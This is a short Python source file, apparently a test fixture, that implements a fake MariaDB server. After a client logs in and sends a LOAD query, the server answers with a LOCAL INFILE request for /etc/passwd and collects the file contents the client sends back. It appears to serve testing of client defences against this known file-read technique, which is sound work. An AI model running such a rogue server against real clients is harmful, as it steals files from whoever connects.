"""A server that speaks as MariaDB does, and asks for files of whoever logs in."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import socket


def packet(number: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "little") + bytes([number]) + payload


def read_packet(line: Any) -> bytes:
    head = line.read(4)
    return line.read(int.from_bytes(head[:3], "little"))


GREETING = (
    b"\x0a10.11.0-MariaDB\0" + b"\1\0\0\0" + b"x" * 8 + b"\0\xff\xf7\x2d\2\0\xff\x81\x15"
    + bytes(10) + b"y" * 12 + b"\0mysql_native_password\0"
)  # fmt: skip
DONE = b"\0\1\0\2\0\0\0"


def hostile(listening: socket.socket, seen: list[bytes]) -> None:
    """Ask whoever logs in for the file of passwords, instead of the rows."""
    line, _ = listening.accept()
    with line, line.makefile("rb") as reading:
        line.sendall(packet(0, GREETING))
        read_packet(reading)
        line.sendall(packet(2, DONE))
        while not read_packet(reading).startswith(b"\3LOAD"):
            line.sendall(packet(1, DONE))
        line.sendall(packet(1, b"\xfb/etc/passwd"))
        while given := read_packet(reading):
            seen.append(given)
        line.sendall(packet(2 + len(seen) + 1, DONE))
